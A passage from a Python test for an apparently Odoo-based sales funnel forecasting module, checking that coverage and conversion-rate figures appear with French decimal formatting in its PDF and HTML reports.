        self.accuracy_line(date(2026, 2, 1), "commit")
        params = {"team_id": self.team.id, "period_type": "month", "date_from": "2026-03-01"}
        text = pdf_text(self.print_screen(params, lang="fr_FR"))
        screen = self.Submission.with_user(self.manager).get_forecast_screen(params)
        self.assertEqual(round(screen["team_line"]["coverage"], 2), 1.53)
        self.assertIn(" 1,53x ", text)
        self.assertIn(" 75,0 ", text)
        self.assertIn(" 1,25 ", text)
        funnel = {"team_id": self.team.id, "period": "all"}
        Dashboard = self.env["crm.funnel.dashboard"].with_user(self.manager)
        rates = [
            row["conversion_rate"]
            for row in Dashboard._sff_data(funnel)["funnels"][0]["stages"]
            if row["conversion_rate"] is not None
        ]
        self.assertTrue(rates)
        html = (
            self.env["ir.actions.report"]
            .with_user(self.manager)
            .with_context(lang="fr_FR")
            ._render_qweb_html(
                "sales_funnel_forecast.report_funnel", [], data={"sff_params": funnel}
            )[0]
            .decode()
        )
        self.assertIn(f" {rates[0]:.1f} ".replace(".", ","), pdf_text(html))
        self.assertNotIn(f" {rates[0]:.1f} ", pdf_text(html))
